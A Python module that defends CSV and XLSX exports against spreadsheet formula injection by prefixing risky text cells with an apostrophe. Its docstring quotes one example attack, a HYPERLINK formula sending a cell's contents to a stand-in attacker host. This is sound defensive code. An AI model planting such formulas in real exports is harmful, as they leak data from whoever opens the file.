"""Cells for CSV and XLSX files that a spreadsheet never runs as a formula.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a tab or carriage return
before one) is taken for a formula by Excel and LibreOffice when the file is opened:
``=HYPERLINK("https://evil.example/?"&A2, "klik")`` in a free-text answer would run on the
team leader's computer. Every CSV and XLSX writer in Teamspiegel passes its cells through
:func:`safe_cell` (or :func:`safe_row` / :func:`safe_values`), which puts an apostrophe in
front of such a text, the usual way to say "this is text" (OWASP, "CSV injection"). Numbers,
dates and empty cells are left alone, so a score of ``-1`` stays a number.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_row", "safe_values"]

#: first characters that make a spreadsheet read a text cell as a formula (the full-width
#: forms too: some spreadsheets fold them to the ASCII ones)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """``value``, with an apostrophe in front when it is a text a spreadsheet would run
    (also behind leading spaces, which some spreadsheets skip)."""
    if isinstance(value, str) and value.lstrip(" \u00a0").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row for ``csv.DictWriter`` with every cell made safe."""
    return {key: safe_cell(value) for key, value in row.items()}


def safe_values(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer`` or openpyxl's ``append`` with every cell made safe."""
    return [safe_cell(value) for value in values]
